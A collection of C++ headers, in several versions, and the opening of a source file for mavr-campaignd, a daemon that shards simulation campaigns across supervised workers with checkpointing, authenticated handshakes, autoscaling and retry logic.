/// Runs the pull loop against the coordinator at `endpoint`
/// (`unix:/path`, `tcp:host:port`, or a bare AF_UNIX path) until the
/// coordinator says kShutdown, the connection cannot be (re)established,
/// the handshake is rejected (wrong token — permanent, no retry),
/// `stop` is raised, or `max_chunks` is reached.
/// Returns the number of chunks completed and acknowledged.
std::uint64_t run_worker(const std::string& endpoint,
                         const WorkerOptions& options = {});

}  // namespace mavr::campaignd
