// Supervised worker pool for mavr-campaignd (DESIGN.md §14).
//
// The daemon's forked workers were previously fire-and-forget: a crashed
// worker silently shrank the pool and a wedged one held its slot forever.
// The Supervisor closes both holes and adds load-driven sizing:
//
//  * liveness      — each worker holds a control channel to its
//                    supervisor and sends kPing on an interval
//                    (heartbeat_client); the supervisor answers kPong and
//                    treats prolonged silence from a still-running worker
//                    as a wedge, killing and replacing it. Process exit
//                    is detected directly via WorkerHandle::alive().
//  * restart       — a dead worker's slot respawns after a full-jitter
//                    exponential backoff (support::Backoff), so a
//                    fast-crashing worker cannot burn CPU in a tight
//                    fork loop.
//  * crash-loop    — N deaths of one slot inside a sliding window put the
//                    slot in quarantine for a cool-down; capacity drops
//                    rather than thrash. (A worker that dies instantly at
//                    startup — bad config, missing fixture — would
//                    otherwise defeat any per-restart backoff.)
//  * autoscale     — the pool tracks the coordinator's queue depth
//                    between min_workers and max_workers: scale-up is
//                    immediate when chunks are pending, scale-down waits
//                    for a sustained idle window before retiring one
//                    worker at a time.
//
// The pool is *mechanism-agnostic*: workers are reached only through the
// WorkerHandle interface, so unit tests drive the supervisor with
// thread-backed handles (fast, sanitizer-friendly) while the daemon
// provides fork-backed ones. Slots have identity — slot i's backoff and
// crash history survive its worker's death, so a crash-looper cannot
// launder its history by respawning "fresh".
//
// Safety: supervision only ever destroys and recreates workers, and the
// campaign layer is already indifferent to worker death (chunks reclaim
// and reassign; results are bit-identical at any worker count), so no
// supervisor action can change campaign output — only its latency.
#pragma once

#include <atomic>
#include <chrono>
#include <cstdint>
#include <deque>
#include <functional>
#include <memory>
#include <mutex>
#include <string>
#include <thread>
#include <vector>

#include "support/backoff.hpp"
#include "support/socket.hpp"

namespace mavr::campaignd {

/// One supervised worker, by whatever mechanism runs it (thread in tests,
/// fork in the daemon). Called only from the supervisor thread.
class WorkerHandle {
 public:
  virtual ~WorkerHandle() = default;
  /// Still running? Implementations must also reap here (waitpid for
  /// processes) so a dead worker does not linger as a zombie.
  virtual bool alive() = 0;
  /// Polite stop (SIGTERM / stop flag): finish the in-flight trial, exit.
  virtual void terminate() = 0;
  /// Hard stop (SIGKILL / abandon): for wedged workers that ignore
  /// terminate(). Must make alive() turn false promptly.
  virtual void kill_now() = 0;
  /// Heartbeat channel (supervisor end), or nullptr for a worker without
  /// one — such workers get no wedge detection, only alive() monitoring.
  virtual support::Socket* control() = 0;
};

/// Spawns worker number `seq` (monotonic across the pool's life).
using WorkerFactory =
    std::function<std::unique_ptr<WorkerHandle>(std::uint64_t seq)>;

/// Pending chunk count from the coordinator (Coordinator::queue_depth());
/// nullptr = no signal, pool pins at max_workers.
using QueueDepthFn = std::function<std::uint64_t()>;

struct SupervisorConfig {
  std::size_t min_workers = 1;
  std::size_t max_workers = 4;
  /// A running worker silent on its control channel this long is wedged:
  /// kill_now() + restart. 0 disables wedge detection. Must comfortably
  /// exceed the worker's ping interval plus its longest single-trial
  /// compute (pings ride a dedicated thread, so compute does not normally
  /// suppress them — but a stopped clock must not look like a wedge).
  int heartbeat_timeout_ms = 5'000;
  /// Full-jitter exponential restart backoff per slot.
  int restart_backoff_ms = 50;
  int restart_backoff_max_ms = 5'000;
  /// Crash-loop rule: this many deaths inside the window quarantines the
  /// slot for quarantine_ms (its crash history resets after).
  int crash_loop_failures = 5;
  int crash_loop_window_ms = 10'000;
  int quarantine_ms = 30'000;
  /// Supervision loop cadence.
  int tick_ms = 50;
  /// Scale-down patience: consecutive idle (zero-depth) ticks before one
  /// worker above min_workers is retired.
  int idle_ticks_before_retire = 40;
  /// Grace between terminate() and kill_now() during stop().
  int stop_grace_ms = 2'000;
  /// Jitter seed; slot i's backoff stream is fork(i).
  std::uint64_t seed = 1;
};

/// Monotonic event counts plus a live-worker snapshot.
struct SupervisorStats {
  std::uint64_t spawned = 0;      ///< every worker ever started
  std::uint64_t restarts = 0;     ///< spawns replacing a crashed worker
  std::uint64_t wedge_kills = 0;  ///< heartbeat-silent workers killed
  std::uint64_t quarantines = 0;  ///< slots benched by the crash-loop rule
  std::uint64_t retired = 0;      ///< workers scaled down while idle
  std::size_t live = 0;           ///< running right now
};

class Supervisor {
 public:
  Supervisor(SupervisorConfig config, WorkerFactory factory,
             QueueDepthFn queue_depth = nullptr);
  ~Supervisor();
  Supervisor(const Supervisor&) = delete;
  Supervisor& operator=(const Supervisor&) = delete;

  /// Spawns the initial pool and starts the supervision thread.
  void start();

  /// Stops supervising, terminates every worker (escalating to
  /// kill_now() after stop_grace_ms), reaps them. Idempotent; also run
  /// by the destructor.
  void stop();

  SupervisorStats stats();

 private:
  using Clock = std::chrono::steady_clock;

  struct Slot {
    std::unique_ptr<WorkerHandle> handle;
    std::unique_ptr<support::Backoff> backoff;
    Clock::time_point last_heard;
    Clock::time_point next_restart;  ///< earliest respawn (epoch = now)
    Clock::time_point quarantined_until;
    std::deque<Clock::time_point> deaths;  ///< within the sliding window
    bool respawn_is_restart = false;  ///< next spawn replaces a crash
    bool retiring = false;  ///< terminate()d by scale-down, not a crash
  };

  void run();
  void tick();
  void pump_heartbeats(Slot* slot);
  void on_death(Slot* slot, Clock::time_point now);
  void spawn_into(Slot* slot, Clock::time_point now);
  std::size_t live_locked() const;

  SupervisorConfig config_;
  WorkerFactory factory_;
  QueueDepthFn queue_depth_;
  std::thread thread_;
  std::atomic<bool> stopping_{false};
  bool started_ = false;

  std::mutex mu_;  ///< guards slots_, stats_, idle_ticks_
  std::vector<Slot> slots_;  ///< fixed size max_workers; slot = identity
  SupervisorStats stats_;
  std::uint64_t next_seq_ = 0;
  int idle_ticks_ = 0;
};

/// Worker-process side of the liveness protocol: sends kPing every
/// `interval_ms` on `control` and expects kPong within the next interval.
/// Returns when `stop` is raised, or when the supervisor stops answering
/// (send failure, or `missed_limit` consecutive intervals without a pong)
/// — the caller should treat a return with `stop` unraised as "supervisor
/// is gone" and shut down. Runs on its own thread so pings keep flowing
/// while the main thread computes a long chunk.
void heartbeat_client(support::Socket& control, int interval_ms,
                      const std::atomic<bool>& stop, int missed_limit = 3);

}  // namespace mavr::campaignd
