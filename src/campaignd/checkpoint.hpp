// Persistent chunk-checkpoint store: an append-only log of completed
// chunk results, keyed by campaign config fingerprint (DESIGN.md §12).
//
// Every record the coordinator merges is first appended here, so a killed
// coordinator resumes a campaign from its completed chunks: on resubmit of
// a config with the same fingerprint, matching records are loaded and only
// the missing chunks are scheduled. Records reuse the protocol's
// length+CRC framing — a torn tail record (killed mid-append) fails its
// CRC and is ignored, never half-merged.
//
// Durability ladder (DESIGN.md §14): append() pushes each record through
// the libc buffer to the kernel (fflush), which survives a coordinator
// crash; sync() adds fsync, which survives a host power cut. The
// coordinator batches sync() at client poll boundaries and on drain rather
// than per append — a chunk lost to a power cut is merely recomputed, so
// per-record fsync would buy microseconds of durability at a large
// throughput cost.
#pragma once

#include <cstdint>
#include <cstdio>
#include <mutex>
#include <string>
#include <vector>

#include "campaign/campaign.hpp"

namespace mavr::campaignd {

class CheckpointStore {
 public:
  /// `path` empty = disabled: append/load/sync become no-ops.
  explicit CheckpointStore(std::string path) : path_(std::move(path)) {}
  ~CheckpointStore();
  CheckpointStore(const CheckpointStore&) = delete;
  CheckpointStore& operator=(const CheckpointStore&) = delete;

  bool enabled() const { return !path_.empty(); }
  const std::string& path() const { return path_; }

  /// Appends one completed chunk under `fingerprint` and flushes it to the
  /// kernel. The append handle is opened lazily and kept — the store is
  /// written on every completed chunk, so fopen-per-record would dominate.
  void append(std::uint64_t fingerprint, const campaign::ChunkResult& result);

  /// fsyncs everything appended so far (no-op when nothing is dirty).
  /// Crash-safe batching point: call at poll boundaries and on drain.
  void sync();

  /// Every valid record for `fingerprint` with chunk index < `n_chunks`,
  /// deduplicated by index (first record wins — chunks are deterministic,
  /// so duplicates are byte-identical anyway) and sorted ascending.
  /// Corrupt or torn records end the scan; what was read before them is
  /// still returned.
  std::vector<campaign::ChunkResult> load(std::uint64_t fingerprint,
                                          std::uint64_t n_chunks) const;

 private:
  std::string path_;
  std::mutex mu_;  ///< appends come from handler threads, sync from polls
  std::FILE* file_ = nullptr;
  bool dirty_ = false;  ///< bytes appended since the last sync()
};

}  // namespace mavr::campaignd
