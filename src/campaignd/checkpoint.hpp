// Persistent chunk-checkpoint store: an append-only log of completed
// chunk results, keyed by campaign config fingerprint (DESIGN.md §12).
//
// Every record the coordinator merges is first appended here, so a killed
// coordinator resumes a campaign from its completed chunks: on resubmit of
// a config with the same fingerprint, matching records are loaded and only
// the missing chunks are scheduled. Records reuse the protocol's
// length+CRC framing — a torn tail record (killed mid-append) fails its
// CRC and is ignored, never half-merged.
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "campaign/campaign.hpp"

namespace mavr::campaignd {

class CheckpointStore {
 public:
  /// `path` empty = disabled: append/load become no-ops, nothing persists.
  explicit CheckpointStore(std::string path) : path_(std::move(path)) {}

  bool enabled() const { return !path_.empty(); }
  const std::string& path() const { return path_; }

  /// Appends one completed chunk under `fingerprint` and flushes it.
  void append(std::uint64_t fingerprint,
              const campaign::ChunkResult& result) const;

  /// Every valid record for `fingerprint` with chunk index < `n_chunks`,
  /// deduplicated by index (first record wins — chunks are deterministic,
  /// so duplicates are byte-identical anyway) and sorted ascending.
  /// Corrupt or torn records end the scan; what was read before them is
  /// still returned.
  std::vector<campaign::ChunkResult> load(std::uint64_t fingerprint,
                                          std::uint64_t n_chunks) const;

 private:
  std::string path_;
};

}  // namespace mavr::campaignd
