// mavr-campaignd coordinator: admits campaigns from clients, shards their
// chunk ranges across worker connections, checkpoints every completed
// chunk, and serves incremental aggregates to polling clients
// (DESIGN.md §12).
//
// Scheduling is fair FIFO: assignments are always drawn from the oldest
// incomplete campaign, so campaigns complete in admission order.
// Backpressure is a bound on admitted-but-incomplete campaigns — a submit
// beyond it is rejected, not queued unboundedly.
//
// Fault model: a worker is trusted to be *crash-faulty only* (it may die
// at any byte boundary; it does not lie — chunks are deterministic, so a
// duplicate result is byte-identical). Worker death is observed as its
// connection closing or going silent past the assignment timeout; either
// way the chunks it held return to the pending pool and the next
// kWorkRequest re-assigns them. Determinism holds because a chunk's value
// depends only on (config, chunk index), never on which worker ran it or
// how many times it was attempted.
#pragma once

#include <cstdint>
#include <deque>
#include <memory>
#include <mutex>
#include <string>
#include <thread>
#include <vector>

#include "campaign/campaign.hpp"
#include "campaignd/checkpoint.hpp"
#include "campaignd/protocol.hpp"
#include "support/socket.hpp"

namespace mavr::campaignd {

struct CoordinatorConfig {
  std::string listen_path;      ///< AF_UNIX socket path
  std::string checkpoint_path;  ///< empty: no persistence, no resume
  /// Backpressure bound: admitted-but-incomplete campaigns. A kSubmit
  /// that would exceed it gets kReject("campaign queue full").
  std::size_t max_queue = 8;
  /// Chunks handed out per kAssign. The sharding grain above the fixed
  /// 64-trial chunk: bigger amortizes round-trips, smaller re-balances
  /// and reassigns-on-death at finer granularity.
  std::uint32_t assign_chunks = 4;
  /// A connection holding an assignment that stays silent this long is
  /// declared dead and its chunks are reassigned.
  int worker_timeout_ms = 120'000;
  /// Idle worker re-poll hint carried in kWait.
  std::uint32_t wait_hint_ms = 20;
};

class Coordinator {
 public:
  explicit Coordinator(CoordinatorConfig config);
  ~Coordinator();
  Coordinator(const Coordinator&) = delete;
  Coordinator& operator=(const Coordinator&) = delete;

  /// Binds the listener and starts the accept loop. Throws support::Error
  /// if the path cannot be bound.
  void start();

  /// Drains: stops accepting, answers outstanding worker requests with
  /// kShutdown, unblocks and joins every connection handler. Idempotent;
  /// also run by the destructor.
  void stop();

  const std::string& path() const { return config_.listen_path; }

 private:
  struct Campaign {
    std::uint64_t id = 0;
    campaign::CampaignConfig config;
    std::uint64_t fingerprint = 0;
    std::uint64_t n_chunks = 0;
    CampaignState state = CampaignState::kQueued;
    std::deque<std::uint64_t> pending;  ///< unassigned chunk indices
    std::vector<std::uint8_t> done;     ///< by chunk index
    /// Completed chunks by index (moved out after the final merge).
    std::vector<campaign::ChunkResult> results;
    std::uint64_t n_done = 0;
    std::uint64_t trials_done = 0;
    campaign::CampaignStats final_stats;
  };

  /// Chunk held by a live connection: reclaimed if the connection dies.
  using HeldChunk = std::pair<std::uint64_t, std::uint64_t>;  // id, index

  void accept_loop();
  void serve(support::Socket sock);
  bool handle_message(support::Socket& sock, const Message& msg,
                      std::vector<HeldChunk>* held);
  bool handle_work_request(support::Socket& sock,
                           std::vector<HeldChunk>* held);
  bool handle_chunk_result(support::Socket& sock, const Message& msg,
                           std::vector<HeldChunk>* held);
  bool handle_submit(support::Socket& sock, const Message& msg);
  bool handle_poll(support::Socket& sock, const Message& msg);
  void reclaim(const std::vector<HeldChunk>& held);
  void finalize(Campaign* c);
  Campaign* find_campaign(std::uint64_t id);
  StatusBody status_of(const Campaign& c);

  CoordinatorConfig config_;
  CheckpointStore store_;
  std::unique_ptr<support::UnixListener> listener_;
  std::atomic<bool> stopping_{false};
  std::thread accept_thread_;

  std::mutex mu_;  ///< guards campaigns_ and every Campaign within
  std::vector<std::unique_ptr<Campaign>> campaigns_;  // admission order
  std::uint64_t next_campaign_id_ = 1;

  std::mutex conns_mu_;  ///< guards handler bookkeeping below
  std::vector<std::thread> handlers_;
  std::vector<int> live_fds_;  ///< shutdown() targets for prompt stop()
};

}  // namespace mavr::campaignd
