// mavr-campaignd coordinator: admits campaigns from clients, shards their
// chunk ranges across worker connections, checkpoints every completed
// chunk, and serves incremental aggregates to polling clients
// (DESIGN.md §12–§13).
//
// Scheduling is fair FIFO: assignments are always drawn from the oldest
// incomplete campaign, so campaigns complete in admission order. *How
// many* chunks one kWorkRequest receives is throughput-aware: the
// coordinator keeps a per-connection EWMA of chunk completion rate and
// scales the grain so a slow machine holds fewer chunks (bounding the
// reclaim cost if it dies) while the fastest stays fully fed. Only the
// batch size varies — assignment order is deterministic, and chunk values
// depend on (config, index) alone, so the bit-identical invariant is
// untouched. Backpressure is a bound on admitted-but-incomplete
// campaigns — a submit beyond it is rejected, not queued unboundedly.
//
// Transport is any `support::Listener` (AF_UNIX or TCP). Every connection
// starts with the protocol handshake: version check, then HMAC
// challenge-response over `auth_token` — a TCP listener has no filesystem
// permissions, so unauthenticated peers are dropped before any campaign
// state is touched.
//
// Fault model: a worker is trusted to be *crash-faulty only* (it may die
// at any byte boundary; it does not lie — chunks are deterministic, so a
// duplicate result is byte-identical). Worker death is observed as its
// connection closing or going silent past the assignment timeout; either
// way the chunks it held return to the pending pool and the next
// kWorkRequest re-assigns them. Determinism holds because a chunk's value
// depends only on (config, chunk index), never on which worker ran it or
// how many times it was attempted.
//
// Straggler recovery (DESIGN.md §14) extends the same argument to *slow*
// workers: when no pending work remains, an idle worker may be handed a
// second copy of a chunk whose assignment age exceeds a deadline derived
// from the campaign's EWMA chunk service time. Whichever copy lands first
// is merged; the loser is a byte-identical duplicate and is acknowledged
// but not re-merged. Speculation therefore trades bounded duplicate
// compute for tail latency without ever touching result bits.
#pragma once

#include <atomic>
#include <chrono>
#include <cstdint>
#include <deque>
#include <memory>
#include <mutex>
#include <string>
#include <thread>
#include <unordered_map>
#include <vector>

#include "campaign/campaign.hpp"
#include "campaignd/checkpoint.hpp"
#include "campaignd/protocol.hpp"
#include "support/netfault.hpp"
#include "support/socket.hpp"

namespace mavr::campaignd {

struct CoordinatorConfig {
  /// Endpoint spec: `unix:/path`, `tcp:host:port` (port 0 = ephemeral),
  /// or a bare AF_UNIX path.
  std::string listen_endpoint;
  std::string checkpoint_path;  ///< empty: no persistence, no resume
  /// Shared handshake token. Empty (the AF_UNIX default) still runs the
  /// handshake — version check plus proof of the *empty* token — so a
  /// peer configured with a token is rejected rather than half-trusted.
  std::string auth_token;
  /// Backpressure bound: admitted-but-incomplete campaigns. A kSubmit
  /// that would exceed it gets kReject("campaign queue full").
  std::size_t max_queue = 8;
  /// Chunks handed out per kAssign to the fastest connection. The
  /// sharding grain above the fixed 64-trial chunk: bigger amortizes
  /// round-trips, smaller re-balances and reassigns-on-death at finer
  /// granularity. Slower connections receive a proportional share
  /// (see scaled_assign_chunks), never less than 1.
  std::uint32_t assign_chunks = 4;
  /// A connection holding an assignment that stays silent this long is
  /// declared dead and its chunks are reassigned.
  int worker_timeout_ms = 120'000;
  /// Idle worker re-poll hint carried in kWait.
  std::uint32_t wait_hint_ms = 20;

  // --- straggler speculation (DESIGN.md §14) ----------------------------
  /// Hand idle workers duplicate copies of overdue in-flight chunks once
  /// no pending work remains. Safe at any setting: duplicates are
  /// byte-identical and deduplicated at merge.
  bool speculate = true;
  /// A chunk is never declared overdue before this age — the floor keeps
  /// a cold EWMA (first chunks of a campaign) from triggering copies.
  int speculation_min_ms = 2'000;
  /// Overdue deadline as a multiple of the campaign's EWMA chunk service
  /// time (assignment → accepted result, transit included).
  double speculation_factor = 3.0;
  /// Ceiling on simultaneous copies of one chunk, the original included.
  std::uint32_t speculation_max_copies = 2;

  // --- chaos plane (support/netfault) -----------------------------------
  /// When any rate is nonzero, every accepted connection is armed with a
  /// fault stream forked from `net_fault_seed`: the coordinator's own
  /// sends/recvs are then dropped/corrupted/delayed per the config. Used
  /// by the chaos suite; disarmed (all-zero) in production.
  support::NetFaultConfig net_faults;
  std::uint64_t net_fault_seed = 0;
};

/// Scheduler event tally — monotonic over a coordinator's life, readable
/// at any point (Coordinator::counters()). The chaos and speculation
/// tests pin behavior on these rather than on timing.
struct CoordinatorCounters {
  std::uint64_t chunks_assigned = 0;     ///< chunks handed out, copies incl.
  std::uint64_t speculative_assigns = 0; ///< duplicate copies handed out
  std::uint64_t duplicate_results = 0;   ///< results for already-done chunks
  std::uint64_t chunks_reclaimed = 0;    ///< re-pended after a holder died
  std::uint64_t submits_deduped = 0;     ///< kSubmit matched a live campaign
};

/// Instantaneous scheduler load (Coordinator::queue_depth()) — the signal
/// the worker-pool autoscaler consumes.
struct QueueDepth {
  std::uint64_t pending_chunks = 0;      ///< unassigned, over all campaigns
  std::uint64_t inflight_chunks = 0;     ///< assigned, result not yet merged
  std::uint64_t incomplete_campaigns = 0;
};

/// Throughput-aware grain scaling (pure; unit-tested): how many chunks a
/// connection completing `rate` chunks/sec should hold when the fastest
/// live connection completes `max_rate`. Unknown rates (<= 0, e.g. a
/// brand-new connection) are treated optimistically as fast — the first
/// completed chunk starts the estimate. Result is in [1, grain].
std::uint32_t scaled_assign_chunks(std::uint32_t grain, double rate,
                                   double max_rate);

class Coordinator {
 public:
  explicit Coordinator(CoordinatorConfig config);
  ~Coordinator();
  Coordinator(const Coordinator&) = delete;
  Coordinator& operator=(const Coordinator&) = delete;

  /// Binds the listener and starts the accept loop. Throws support::Error
  /// if the endpoint cannot be parsed or bound.
  void start();

  /// Drains: stops accepting, answers outstanding worker requests with
  /// kShutdown, unblocks and joins every connection handler. Idempotent;
  /// also run by the destructor.
  void stop();

  /// Graceful-shutdown phase 1 (SIGTERM path): stop admitting campaigns
  /// (kSubmit → kReject) and stop handing out work (kWorkRequest →
  /// kShutdown), but keep accepting the chunk results workers already
  /// hold, checkpointing each. Connections stay serviceable for polls.
  void begin_drain();

  /// Graceful-shutdown phase 2: waits until no assigned chunk remains
  /// in flight (each either completed or reclaimed from a dead holder),
  /// then fsyncs the checkpoint store. False if `timeout_ms` elapsed
  /// first — callers should stop() regardless; reclaim-on-disconnect and
  /// the checkpoint log make a hard cutoff safe, just slower to resume.
  bool drain(int timeout_ms);

  /// True between begin_drain()/stop().
  bool draining() const { return draining_.load(); }

  /// Canonical spec of the endpoint actually bound (for TCP port 0 this
  /// carries the kernel-assigned port). Valid after start().
  const std::string& endpoint() const { return bound_endpoint_; }

  /// Live (unreaped) connection-handler threads; sweeps finished handlers
  /// first. The reap regression test pins this as bounded across hundreds
  /// of sequential connections.
  std::size_t handler_count();

  /// Snapshot of the scheduler event tally.
  CoordinatorCounters counters();

  /// Snapshot of instantaneous scheduler load (autoscaler signal).
  QueueDepth queue_depth();

  /// Injected-fault tally of the chaos plane (all-zero when disarmed).
  support::NetFaultStats net_fault_stats() const;

 private:
  /// An assigned-but-unmerged chunk: when it was (last) handed out and how
  /// many live copies exist. Guarded by mu_.
  struct Inflight {
    std::chrono::steady_clock::time_point last_assign;
    std::uint32_t copies = 0;
  };

  struct Campaign {
    std::uint64_t id = 0;
    campaign::CampaignConfig config;
    std::uint64_t fingerprint = 0;
    /// Exact canonical encoding — retried-submit dedup compares this, not
    /// just the fingerprint, so a hash collision cannot alias campaigns.
    std::vector<std::uint8_t> canonical;
    std::uint64_t n_chunks = 0;
    CampaignState state = CampaignState::kQueued;
    std::deque<std::uint64_t> pending;  ///< unassigned chunk indices
    std::vector<std::uint8_t> done;     ///< by chunk index
    /// Completed chunks by index (moved out after the final merge).
    std::vector<campaign::ChunkResult> results;
    std::unordered_map<std::uint64_t, Inflight> inflight;  ///< by chunk index
    /// EWMA of assignment→merge service time (seconds); 0 = no sample yet.
    /// Feeds the speculation deadline.
    double ewma_service_s = 0.0;
    std::uint64_t n_done = 0;
    std::uint64_t trials_done = 0;
    campaign::CampaignStats final_stats;
  };

  /// Chunk held by a live connection: reclaimed if the connection dies.
  using HeldChunk = std::pair<std::uint64_t, std::uint64_t>;  // id, index

  /// Per-connection throughput estimate, updated on every accepted chunk
  /// result and read by the scheduler. Guarded by conns_mu_.
  struct ConnThroughput {
    double ewma_rate = 0.0;  ///< chunks/sec; 0 = no estimate yet
    std::chrono::steady_clock::time_point last_event;
  };

  void accept_loop();
  void reap_finished();
  void serve(support::Socket sock, std::uint64_t handler_id);
  bool serve_handshake(support::Socket& sock);
  bool handle_message(support::Socket& sock, const Message& msg,
                      std::vector<HeldChunk>* held, ConnThroughput* rate);
  bool handle_work_request(support::Socket& sock,
                           std::vector<HeldChunk>* held,
                           ConnThroughput* rate);
  void speculate_overdue(std::chrono::steady_clock::time_point now,
                         std::uint32_t grain, std::vector<HeldChunk>* held,
                         AssignBody* assign);
  bool handle_chunk_result(support::Socket& sock, const Message& msg,
                           std::vector<HeldChunk>* held,
                           ConnThroughput* rate);
  bool handle_submit(support::Socket& sock, const Message& msg);
  bool handle_poll(support::Socket& sock, const Message& msg);
  void note_chunk_completed(ConnThroughput* rate);
  std::uint32_t current_grain(const ConnThroughput* rate);
  void reclaim(const std::vector<HeldChunk>& held);
  void finalize(Campaign* c);
  Campaign* find_campaign(std::uint64_t id);
  StatusBody status_of(const Campaign& c);

  CoordinatorConfig config_;
  CheckpointStore store_;
  support::NetFaultPlane net_plane_;
  std::unique_ptr<support::Listener> listener_;
  std::string bound_endpoint_;
  std::atomic<bool> stopping_{false};
  std::atomic<bool> draining_{false};
  std::thread accept_thread_;

  std::mutex mu_;  ///< guards campaigns_, counters_, every Campaign within
  std::vector<std::unique_ptr<Campaign>> campaigns_;  // admission order
  CoordinatorCounters counters_;
  std::uint64_t next_campaign_id_ = 1;

  std::mutex conns_mu_;  ///< guards handler bookkeeping below
  std::unordered_map<std::uint64_t, std::thread> handlers_;
  std::uint64_t next_handler_id_ = 1;
  /// Handlers that have run to completion and are ready to join — the
  /// accept loop (and stop()) sweeps them so the thread table stays
  /// bounded no matter how many connections come and go.
  std::vector<std::uint64_t> finished_handlers_;
  std::vector<int> live_fds_;  ///< shutdown() targets for prompt stop()
  std::vector<ConnThroughput*> conn_rates_;  ///< live connections' estimates
};

}  // namespace mavr::campaignd
