// Client side of the mavr-campaignd protocol: submit a campaign, poll
// its incremental aggregate, or block until it completes
// (DESIGN.md §12–§13).
//
// Each call is one short-lived connection — the coordinator keeps no
// per-client state, so a client can submit from one process and poll
// from another (or poll a campaign resumed by a restarted coordinator,
// after resubmitting the same config to obtain its new id). Endpoints
// are specs (`unix:/path`, `tcp:host:port`, or a bare AF_UNIX path);
// every connection runs the handshake, proving `auth_token` (empty by
// default, matching a coordinator without one).
//
// Resilience (DESIGN.md §14): every operation can retry across transient
// transport failures with full-jitter exponential backoff. Retries are
// safe end to end — kSubmit is idempotent at the coordinator (a retried
// submit lands on the campaign the lost reply admitted), and kPoll is a
// read. wait_campaign keeps a *consecutive*-failure budget: any
// successful poll resets it, so a campaign is only abandoned after the
// coordinator has been unreachable for the whole ladder, not after one
// dropped frame. Progress resumes transparently from the coordinator's
// incremental aggregate — the client carries no replayable state.
#pragma once

#include <cstdint>
#include <string>

#include "campaign/campaign.hpp"
#include "campaignd/protocol.hpp"
#include "support/netfault.hpp"

namespace mavr::campaignd {

struct ClientOptions {
  /// Shared handshake token; must match the coordinator's.
  std::string auth_token;
  /// Reply deadline per request (also the handshake budget).
  int reply_timeout_ms = 10'000;
  /// Connect attempts per request (linear backoff inside the transport).
  int connect_attempts = 5;
  int connect_backoff_ms = 20;
  /// Transient-failure retries per operation (0 = fail on first). For
  /// wait_campaign this budget is *consecutive*: any successful poll
  /// resets it.
  int max_retries = 0;
  /// Full-jitter exponential backoff between retries (support::Backoff).
  int retry_backoff_ms = 50;
  int retry_backoff_max_ms = 2'000;
  /// Jitter stream seed — distinct per client so a coordinator restart
  /// does not see every client reconnect in lockstep.
  std::uint64_t retry_seed = 1;
  /// Chaos plane: when set, every connection this client opens is armed
  /// with a fault stream (tests drive client-side faults through this).
  support::NetFaultPlane* fault_plane = nullptr;
};

struct SubmitOutcome {
  bool ok = false;
  std::uint64_t campaign_id = 0;  ///< valid when ok
  std::string error;              ///< reject reason / transport failure
};

struct PollOutcome {
  bool ok = false;
  StatusBody status;  ///< valid when ok
  std::string error;
};

/// Submits `config` to the coordinator at `endpoint`. config.jobs is not
/// transmitted — sharding is the coordinator's concern. Retries transient
/// transport failures per `options` (safe: submit is idempotent).
SubmitOutcome submit_campaign(const std::string& endpoint,
                              const campaign::CampaignConfig& config,
                              const ClientOptions& options);

/// One status snapshot for `campaign_id` (retrying per `options`).
PollOutcome poll_campaign(const std::string& endpoint,
                          std::uint64_t campaign_id,
                          const ClientOptions& options);

/// Polls every `interval_ms` until the campaign reports kDone, the
/// consecutive-failure budget is exhausted, a permanent rejection occurs,
/// or `timeout_ms` elapses (timeout_ms < 0 = wait forever). On success
/// the returned status carries the final CampaignStats — bit-identical
/// to what run_trials would produce in-process.
PollOutcome wait_campaign(const std::string& endpoint,
                          std::uint64_t campaign_id,
                          const ClientOptions& options, int interval_ms = 50,
                          int timeout_ms = -1);

// Token-only conveniences (the pre-resilience signatures): single
// attempt, no retries — what the existing tests and simple callers use.
SubmitOutcome submit_campaign(const std::string& endpoint,
                              const campaign::CampaignConfig& config,
                              const std::string& auth_token = "");
PollOutcome poll_campaign(const std::string& endpoint,
                          std::uint64_t campaign_id,
                          const std::string& auth_token = "");
PollOutcome wait_campaign(const std::string& endpoint,
                          std::uint64_t campaign_id, int interval_ms = 50,
                          int timeout_ms = -1,
                          const std::string& auth_token = "");

}  // namespace mavr::campaignd
