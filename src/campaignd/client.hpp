// Client side of the mavr-campaignd protocol: submit a campaign, poll
// its incremental aggregate, or block until it completes
// (DESIGN.md §12–§13).
//
// Each call is one short-lived connection — the coordinator keeps no
// per-client state, so a client can submit from one process and poll
// from another (or poll a campaign resumed by a restarted coordinator,
// after resubmitting the same config to obtain its new id). Endpoints
// are specs (`unix:/path`, `tcp:host:port`, or a bare AF_UNIX path);
// every connection runs the handshake, proving `auth_token` (empty by
// default, matching a coordinator without one).
#pragma once

#include <cstdint>
#include <string>

#include "campaign/campaign.hpp"
#include "campaignd/protocol.hpp"

namespace mavr::campaignd {

struct SubmitOutcome {
  bool ok = false;
  std::uint64_t campaign_id = 0;  ///< valid when ok
  std::string error;              ///< reject reason / transport failure
};

struct PollOutcome {
  bool ok = false;
  StatusBody status;  ///< valid when ok
  std::string error;
};

/// Submits `config` to the coordinator at `endpoint`. config.jobs is not
/// transmitted — sharding is the coordinator's concern.
SubmitOutcome submit_campaign(const std::string& endpoint,
                              const campaign::CampaignConfig& config,
                              const std::string& auth_token = "");

/// One status snapshot for `campaign_id`.
PollOutcome poll_campaign(const std::string& endpoint,
                          std::uint64_t campaign_id,
                          const std::string& auth_token = "");

/// Polls every `interval_ms` until the campaign reports kDone, an error
/// occurs, or `timeout_ms` elapses (timeout_ms < 0 = wait forever).
/// On success the returned status carries the final CampaignStats —
/// bit-identical to what run_trials would produce in-process.
PollOutcome wait_campaign(const std::string& endpoint,
                          std::uint64_t campaign_id, int interval_ms = 50,
                          int timeout_ms = -1,
                          const std::string& auth_token = "");

}  // namespace mavr::campaignd
