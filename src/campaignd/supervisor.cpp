#include "campaignd/supervisor.hpp"

#include <algorithm>

#include "campaignd/protocol.hpp"
#include "support/error.hpp"
#include "support/rng.hpp"

namespace mavr::campaignd {

Supervisor::Supervisor(SupervisorConfig config, WorkerFactory factory,
                       QueueDepthFn queue_depth)
    : config_(std::move(config)),
      factory_(std::move(factory)),
      queue_depth_(std::move(queue_depth)) {
  MAVR_REQUIRE(config_.min_workers >= 1, "min_workers must be >= 1");
  MAVR_REQUIRE(config_.max_workers >= config_.min_workers,
               "max_workers must be >= min_workers");
  MAVR_REQUIRE(config_.tick_ms >= 1, "tick_ms must be >= 1");
  MAVR_REQUIRE(static_cast<bool>(factory_), "supervisor needs a factory");
  slots_.resize(config_.max_workers);
  for (std::size_t i = 0; i < slots_.size(); ++i) {
    slots_[i].backoff = std::make_unique<support::Backoff>(
        config_.restart_backoff_ms, config_.restart_backoff_max_ms,
        support::Rng::derive_seed(config_.seed, i));
  }
}

